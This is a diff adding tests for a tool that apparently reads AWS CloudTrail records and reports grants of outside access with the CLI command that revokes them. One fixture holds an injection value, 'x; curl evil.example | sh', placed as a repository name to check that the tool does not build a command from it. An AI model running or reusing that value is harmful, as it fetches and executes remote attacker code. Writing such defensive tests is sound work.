@@ -196,6 +196,80 @@ describe('the facts', () => {
   });
 });
 
+describe('what lets others in', () => {
+  const [keyArn, grantId] = [
+    `arn:aws:kms:us-east-1:${account}:key/1234abcd-12ab-34cd-56ef-1234567890ab`,
+    'f0'.repeat(32),
+  ];
+  const asked = { keyId: '1234abcd-12ab-34cd-56ef-1234567890ab', granteePrincipal: 'arn:aws:iam::999988887777:root' };
+  const grant = (more: object = {}) =>
+    call('kms:CreateGrant', {
+      requestParameters: asked,
+      responseElements: { grantId, keyId: keyArn },
+      ...more,
+    });
+  const opened = 'It lets others in until somebody runs: aws';
+
+  it.each<[string, Call, string]>([
+    ['a grant', grant(), `kms revoke-grant --key-id ${keyArn} --grant-id ${grantId}`],
+    [
+      'a grant of years ago',
+      grant({ responseElements: { grantId } }),
+      `kms revoke-grant --key-id ${asked.keyId} --grant-id ${grantId}`,
+    ],
+    [
+      'a repository',
+      call('ecr:SetRepositoryPolicy', { requestParameters: { repositoryName: 'shop/web', policyText: '{}' } }),
+      'ecr delete-repository-policy --repository-name shop/web',
+    ],
+    [
+      'a repository by its registry',
+      call('ecr:SetRepositoryPolicy', { requestParameters: { repositoryName: 'web', registryId: account } }),
+      `ecr delete-repository-policy --repository-name web --registry-id ${account}`,
+    ],
+    [
+      'a share',
+      call('ram:CreateResourceShare', {
+        responseElements: { resourceShare: { resourceShareArn: `arn:aws:ram:us-east-1:${account}:resource-share/7a` } },
+      }),
+      `ram delete-resource-share --resource-share-arn arn:aws:ram:us-east-1:${account}:resource-share/7a`,
+    ],
+    [
+      'a secret',
+      call('secretsmanager:PutResourcePolicy', { requestParameters: { secretId: 'shop/db' } }),
+      'secretsmanager delete-resource-policy --secret-id shop/db',
+    ],
+  ])('%s is said with the command that takes it back, whole', (_, one, command) => {
+    expect(said([answer(one)]).facts[2]).toBe(`${opened} ${command} --region us-east-1`);
+  });
+
+  it('has no command where the record does not say enough, or says more than a name; where it failed, or a service made it, it is no share', () => {
+    const unclear = [
+      grant({ responseElements: null }),
+      call('ecr:SetRepositoryPolicy', { requestParameters: { repositoryName: 'x; curl evil.example | sh' } }),
+    ];
+    const { facts, unknown } = said([answer(...unclear)]);
+    expect(facts.join()).not.toContain(opened);
+    expect(unknown).toEqual([
+      'what kms:CreateGrant in us-east-1 let in',
+      'what ecr:SetRepositoryPolicy in us-east-1 let in',
+    ]);
+    const none = [
+      grant({ errorCode: 'AccessDenied', responseElements: null }),
+      grant({ userIdentity: { ...bob, invokedBy: 'ec2.amazonaws.com' } }),
+    ];
+    const quiet = said([answer(...none)]);
+    expect([...quiet.facts, ...quiet.unknown].join()).not.toMatch(/lets? others? in|let in/);
+  });
+
+  it('is told three times at most, and how many more there are', () => {
+    const grants = Array.from({ length: 5 }, (_, at) => grant({ responseElements: { grantId: `${at}`.repeat(64) } }));
+    const { facts, unknown } = said([answer(...grants)]);
+    expect(facts.filter((fact) => fact.startsWith(opened))).toHaveLength(3);
+    expect(unknown).toEqual(['2 more calls that let others in']);
+  });
+});
+
 describe('further credentials', () => {
   const key = (userName: string | undefined, id = 'AKIAI44QH8DHBEXAMPLE') =>
     call('iam:CreateAccessKey', {
